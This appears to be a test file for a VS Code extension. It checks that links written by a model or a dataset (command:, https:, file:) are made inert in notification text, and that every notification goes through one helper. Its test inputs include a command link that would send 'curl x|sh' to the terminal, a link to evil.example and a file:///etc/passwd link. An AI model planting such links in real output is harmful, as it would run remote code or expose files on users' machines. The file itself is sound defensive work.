// Notifications carry no link a dataset, a model or an endpoint wrote: VS Code makes `[label](command:…)` (and
// https:, file:) in a notification's text a link and opens a command link with commands allowed. The pattern below is
// VS Code's own (vs/base/common/linkedText.ts, as shipped in the code-server the e2e tests run). And every
// notification of the extension goes through notify.ts, so none can skip it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import * as path from 'node:path';
import { inertNotification } from '../../../src/vscode/notificationText';

// eslint-disable-next-line no-useless-escape -- VS Code's pattern as it is written there
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (s: string): string[] => [...s.matchAll(VSCODE_LINK)].map((m) => m[2] as string);

test('a model\'s or a file\'s link syntax makes no link of a notification, and the text reads the same', () => {
  const hostile = [
    'Loosen TB3 [Review the diff](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D) first',
    '[a](https://evil.example) and [b](file:///etc/passwd "title") and [c]  (command:x)',
    'nested [[x](command:y)](command:z)',
  ];
  for (const text of hostile) {
    assert.ok(links(text).length > 0 || text.includes(']  ('), `VS Code would make a link of: ${text}`);
    const inert = inertNotification(text);
    assert.deepEqual(links(inert), [], inert);
    assert.equal(inert.replace(/\u200b/g, ''), text, 'only a zero-width space was added');
  }
  assert.equal(inertNotification('line\u0000one\u001b[31m\ttab\nnext'), 'line one [31m\ttab\nnext', 'control characters as spaces, tab and line break kept');
  assert.equal(inertNotification('plain (no link) [no link]'), 'plain (no link) [no link]');
});

test('every notification of the extension goes through notify.ts', () => {
  const root = path.join(import.meta.dirname, '..', '..', '..', 'src', 'vscode');
  const offenders: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = path.join(d, name);
      if (statSync(p).isDirectory()) walk(p);
      else if (p.endsWith('.ts') && name !== 'notify.ts' && /window\.show(Information|Warning|Error)Message\b/.test(readFileSync(p, 'utf8'))) offenders.push(path.relative(root, p));
    }
  };
  walk(root);
  assert.deepEqual(offenders, [], 'use notify.info/warn/error');
});
